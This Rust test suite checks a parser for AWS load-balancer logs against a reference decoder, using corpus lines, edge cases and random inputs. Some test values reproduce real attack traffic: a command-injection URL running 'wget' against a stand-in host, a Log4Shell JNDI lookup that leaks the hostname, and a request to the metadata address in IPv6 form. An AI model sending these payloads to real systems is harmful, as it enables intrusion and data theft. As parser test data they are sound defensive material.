//! Real lines of every era: all of them rows, the hard ones value by value, and all of them as the slow reference reads
//! them. So are made-up lines of everything that is known to go wrong, and random ones.

use std::collections::BTreeMap;

use alblog::{LogKind, RejectReason, RejectedLine, time};
use proptest::prelude::*;

mod reference;
mod support;

use reference::Verdict;
use support::{ACCESS, CONNECTION, HEALTH_CHECK, KEY_ELB, cell, decode};

const NLB: &str = include_str!("corpus/nlb_tls.log");
const CLASSIC: &str = include_str!("corpus/clb.log");
const EXPECTED: &str = include_str!("corpus/expected.txt");

#[test]
fn every_line_is_a_row() {
    for (kind, text, lines) in
        [(LogKind::Access, ACCESS, 229), (LogKind::Connection, CONNECTION, 13), (LogKind::HealthCheck, HEALTH_CHECK, 2)]
    {
        let (batch, rejected, stats) = decode(kind, text.as_bytes());
        assert_eq!((batch.unwrap().num_rows(), rejected, stats.rejected), (lines, vec![], 0), "{kind}");
    }
}

#[test]
fn lines_of_other_load_balancers_are_rejected() {
    let reasons = |kind, text: &str| -> Vec<RejectReason> {
        let (batch, rejected, _) = decode(kind, text.as_bytes());
        assert_eq!(batch, None);
        rejected.into_iter().map(|line| line.reason).collect()
    };
    let no_time = RejectReason::UnreadableTime { looks_like: None };
    for kind in LogKind::ALL {
        assert_eq!(reasons(kind, NLB), [no_time; 11], "{kind}");
    }
    assert_eq!(reasons(LogKind::Access, CLASSIC), [no_time; 55]);
    assert_eq!(reasons(LogKind::HealthCheck, CLASSIC), [no_time; 55]);
    let test_object = "Enable AccessLog for ELB: app/lb/959dfdbaed241613 at 2020-11-20T09:55:52.806Z";
    for kind in LogKind::ALL {
        let few = RejectReason::TooFewFields { found: 7, kind, looks_like: None };
        assert_eq!(reasons(kind, test_object), [few]);
    }
}

/// `expected.txt`: `# file line`, then `column value` for every value that is not NULL.
#[test]
fn the_hard_lines_value_by_value() {
    for block in EXPECTED.split("\n\n") {
        let (head, values) = block.split_once('\n').unwrap();
        let (file, number) = head.trim_start_matches("# ").split_once(' ').unwrap();
        let (kind, text) = match file {
            "alb_access.log" => (LogKind::Access, ACCESS),
            "alb_connection.log" => (LogKind::Connection, CONNECTION),
            "alb_health_check.log" => (LogKind::HealthCheck, HEALTH_CHECK),
            other => panic!("no file {other}"),
        };
        let mut expected: BTreeMap<&str, &str> = values.lines().filter_map(|line| line.split_once(' ')).collect();
        expected.insert("log_object", "object");
        if kind != LogKind::Access {
            expected.entry("elb").or_insert(KEY_ELB);
        }
        let line = text.lines().nth(number.parse::<usize>().unwrap() - 1).unwrap();
        let batch = decode(kind, line.as_bytes()).0.unwrap();
        for column in kind.columns() {
            let found = cell(&batch, column.name, 0).map(|found| match column.value {
                alblog::ValueType::Timestamp => time::Iso(found.parse().unwrap()).to_string(),
                _ => found,
            });
            let wanted = expected.remove(column.name).map(|text| match column.value {
                alblog::ValueType::Seconds => format!("{:?}", text.parse::<f64>().unwrap()),
                _ => text.to_owned(),
            });
            assert_eq!(found, wanted, "{} of {file} {number}", column.name);
        }
        assert_eq!(expected, BTreeMap::new(), "values without a column in {file} {number}");
    }
}

/// A field's position, what to put there, and the columns it must give.
type Change<'a> = (usize, &'a str, &'a [(&'a str, Option<&'a str>)]);

/// What the corpus has no line for, as changes to one good line.
#[test]
fn made_up_troubles() {
    let last = LogKind::Access.known_fields();
    let agent = "x".repeat(8192);
    let quoted_agent = format!("\"{agent}\"");
    #[rustfmt::skip]
    let cases: &[Change] = &[
        (9, "000", &[("elb_status_code", Some("0")), ("target_status_code", Some("200"))]),
        (9, "-", &[("elb_status_code", None)]),
        (10, "000", &[("target_status_code", Some("0"))]),
        (13, "\"- http://host:80- -\"", &[("request_verb", None), ("request_url", Some("http://host:80-")), ("request_proto", None)]),
        (13, "\"- http://host:80-/ \"", &[("request_verb", None), ("request_url", Some("http://host:80-/")), ("request_proto", None)]),
        (13, "\"- - -\"", &[("request_verb", None), ("request_url", None), ("request_proto", None)]),
        (13, "\"- - - \"", &[("request_verb", None), ("request_url", None), ("request_proto", None)]),
        (13, "\"-\"", &[("request_verb", None), ("request_url", None), ("request_proto", None)]),
        (13, "\"\"", &[("request_verb", None), ("request_url", None), ("request_proto", None)]),
        (13, "\"GET http://h:80/cgi?cmd=cd /tmp; wget+ a.example HTTP/1.1\"", &[("request_verb", Some("GET")), ("request_url", Some("http://h:80/cgi?cmd=cd /tmp; wget+ a.example")), ("request_proto", Some("HTTP/1.1"))]),
        (13, "\"GET http://h:80/ HTTP/1.0 \"", &[("request_verb", Some("GET")), ("request_url", Some("http://h:80/")), ("request_proto", Some("HTTP/1.0"))]),
        (13, "\"GET http://[::ffff:a9fe:a9fe]:443/ HTTP/1.1\"", &[("request_url", Some("http://[::ffff:a9fe:a9fe]:443/"))]),
        (13, "\"GET https://a_b//{x} HTTP/2.0\"", &[("request_url", Some("https://a_b//{x}")), ("request_proto", Some("HTTP/2.0"))]),
        (13, "\"SSTP_DUPLEX_POST https://h:443/ HTTP/1.1\"", &[("request_verb", Some("SSTP_DUPLEX_POST"))]),
        (13, "\"--location https://h:443/ HTTP/1.1\"", &[("request_verb", Some("--location"))]),
        (13, "\"GET http://h:80/\\x22\\x5c\\xC3\\x88\\x00000022%22 HTTP/1.1\"", &[("request_url", Some("http://h:80/\\x22\\x5c\\xC3\\x88\\x00000022%22"))]),
        (14, "\"${jndi:ldap://${hostName}.x/a}  two  spaces\"", &[("user_agent", Some("${jndi:ldap://${hostName}.x/a}  two  spaces"))]),
        (14, "\"\\x00000022\"", &[("user_agent", Some("\\x00000022"))]),
        (14, "\"\"", &[("user_agent", None)]),
        (14, &quoted_agent, &[("user_agent", Some(&agent))]),
        (4, "2001:41d0:701:1100::29c8:57314", &[("client_ip", Some("2001:41d0:701:1100::29c8")), ("client_port", Some("57314"))]),
        (5, "2001:db8::1:80", &[("target_ip", Some("2001:db8::1")), ("target_port", Some("80"))]),
        (5, "-", &[("target_ip", None), ("target_port", None)]),
        (6, "-1", &[("request_processing_time", None), ("target_processing_time", Some("0.05"))]),
        (7, "0.000", &[("target_processing_time", Some("0.0"))]),
        (1, "new-protocol", &[("type", Some("new-protocol"))]),
        (18, "\"Self=1-2-3;Root=1-2-3;custom=a b\"", &[("trace_id", Some("Self=1-2-3;Root=1-2-3;custom=a b"))]),
        (19, "\"*\"", &[("domain_name", Some("*"))]),
        (19, "\"10.0.0.1:443\"", &[("domain_name", Some("10.0.0.1:443"))]),
        (20, "\"session-reused\"", &[("chosen_cert_arn", Some("session-reused"))]),
        (21, "-1", &[("matched_rule_priority", Some("-1"))]),
        (21, "-", &[("matched_rule_priority", None)]),
        (21, "50000", &[("matched_rule_priority", Some("50000"))]),
        (22, "2026-11-20T03:00:00.5Z", &[("request_creation_time", Some("1795143600500000"))]),
        (23, "\"\"", &[("actions_executed", None)]),
        (23, "\"waf-failed\"", &[("actions_executed", Some("waf-failed"))]),
        (25, "\"LambdaOfNextYear\"", &[("error_reason", Some("LambdaOfNextYear"))]),
        (35, "\"0x8\"", &[("target_error_code", Some("0x8")), ("elb_error_code", None), ("extra_fields", None)]),
        (36, "\"0xb\"", &[("elb_error_code", Some("0xb")), ("extra_fields", None)]),
        (last, "\"-\" -", &[("extra_fields", None)]),
        (last, "\"-\" - \"-\" \"\" ", &[("extra_fields", None)]),
        (last, "\"-\" - \"new one\" 7 ", &[("extra_fields", Some("- \"new one\" 7"))]),
    ];
    let good = ACCESS.lines().nth(20).unwrap().replace("0.000 0.159 0.000", "0.001 0.050 0.002");
    let good = format!("{good}{}", " \"-\"".repeat(last - raw_fields(&good).len()));
    for (position, change, expected) in cases {
        let mut fields = raw_fields(&good);
        fields[position - 1] = change;
        let (batch, _, stats) = decode(LogKind::Access, fields.join(" ").as_bytes());
        let batch = batch.unwrap();
        for (column, value) in *expected {
            assert_eq!(cell(&batch, column, 0).as_deref(), *value, "{column} with {change}");
        }
        assert_eq!(cell(&batch, "sent_bytes", 0).as_deref(), Some("8264"), "{change}");
        assert_eq!(stats.unreadable_values, 0, "{change}");
    }
}

/// The fields as written, of a line without spaces in bare fields or missing ones behind quotes.
fn raw_fields(line: &str) -> Vec<&str> {
    let mut inside = false;
    line.split(|c| {
        inside ^= c == '"';
        c == ' ' && !inside
    })
    .collect()
}

#[test]
fn every_era_of_a_line_is_read() {
    let line = ACCESS.lines().nth(20).unwrap();
    let fields = raw_fields(line);
    for count in 0..=fields.len() {
        let shorter = fields[..count].join(" ");
        assert_reads_as_the_reference(LogKind::Access, shorter.as_bytes());
        let (batch, rejected, _) = decode(LogKind::Access, shorter.as_bytes());
        assert_eq!(batch.is_some(), count >= 12);
        assert_eq!(rejected.len(), usize::from((1..12).contains(&count)));
    }
}

#[test]
fn the_corpus_reads_as_the_reference() {
    for text in [ACCESS, CONNECTION, HEALTH_CHECK, NLB, CLASSIC] {
        for line in text.lines() {
            for kind in LogKind::ALL {
                assert_reads_as_the_reference(kind, line.as_bytes());
            }
        }
    }
}

fn assert_reads_as_the_reference(kind: LogKind, line: &[u8]) {
    let (batch, rejected, stats) = decode(kind, line);
    if line.is_empty() {
        assert_eq!((batch, rejected), (None, vec![]));
        return;
    }
    let found = match (batch, rejected.as_slice()) {
        (Some(batch), []) => {
            let named = |name| cell(&batch, name, 0).map(|cell| (name, cell));
            let cells = kind.columns().iter().filter_map(|column| named(column.name)).collect();
            Verdict::Row { cells, unreadable: stats.unreadable_values }
        }
        (None, [RejectedLine { reason: RejectReason::TooFewFields { found, .. }, .. }]) => {
            Verdict::TooFewFields(*found)
        }
        (None, [RejectedLine { reason: RejectReason::UnreadableTime { .. }, .. }]) => Verdict::UnreadableTime,
        (None, [RejectedLine { reason: RejectReason::SeveralLines, .. }]) => {
            assert!(line.windows(6).filter(|six| six[0] == b'T' && six[3] == b':').count() > 1);
            assert!(matches!(reference::decode(kind, line, KEY_ELB), Verdict::Row { .. }));
            return;
        }
        (None, [RejectedLine { .. }]) => Verdict::Misfit,
        other => panic!("neither a row nor rejected: {other:?}"),
    };
    assert_eq!(found, reference::decode(kind, line, KEY_ELB), "{}", String::from_utf8_lossy(line));
}

/// A field as it might be, or not at all; without line endings.
fn field() -> impl Strategy<Value = Vec<u8>> {
    let text = prop_oneof![
        6 => prop::sample::select(vec![
            "-", "-1", "\"-\"", "\"\"", "", "-1.000", "000", "0.000", "-0.5", "200", "10.0.0.1:80", "::1:443", "[::1]:80", "x:y:",
            "arn:aws:lambda:eu-west-1:1:function:f:1", "\"GET http://h:80/ HTTP/1.1\"", "\"- - - \"", "\"a b\"", "\"open", "a\"b",
            "2024-02-29T23:59:60Z", "2023-02-29T00:00:00Z", "0000-12-31T00:00:00.1Z", "9999-12-31T23:59:59.999999999Z", "\\x22", "1e3", "+1",
        ]).prop_map(str::to_owned),
        2 => "-?[0-9]{1,20}(\\.[0-9]{0,12})?",
        2 => "[0-9]{4}-[01][0-9]-[0-3][0-9]T[0-2][0-9]:[0-6][0-9]:[0-6][0-9](\\.[0-9]{0,10})?Z?",
        1 => "[ -~]{0,20}",
        1 => "\"[ !#-~\u{e9}\u{1f600}\t]{0,40}\"",
        1 => "\"[A-Z-]{0,8} {0,2}[a-z:/ -]{0,20} {0,2}(HTTP/[0-9.]{1,3}|-)? {0,2}\"",
    ];
    prop_oneof![
        9 => text.prop_map(String::into_bytes),
        1 => prop::collection::vec(any::<u8>().prop_filter("no line ending", |b| !b"\r\n".contains(b)), 0..8),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn random_lines_read_as_the_reference(
        kind in prop::sample::select(LogKind::ALL.as_slice()),
        mut fields in prop::collection::vec(field(), 0..45),
        separators in prop::collection::vec(prop::sample::select(vec![" ", " ", " ", " ", " ", " ", " ", " ", "", "  "]), 45),
        timely in prop::bool::weighted(0.8),
    ) {
        let time_field = usize::from(kind != LogKind::Connection);
        if timely && fields.len() > time_field {
            fields[0] = b"http".to_vec();
            fields[time_field] = b"2026-11-20T10:11:12.131415Z".to_vec();
        }
        let mut line = Vec::new();
        for (index, (field, separator)) in fields.iter().zip(&separators).enumerate() {
            line.extend_from_slice(field);
            line.extend_from_slice(if index < 2 { b" " } else { separator.as_bytes() });
        }
        assert_reads_as_the_reference(kind, &line);
    }
}
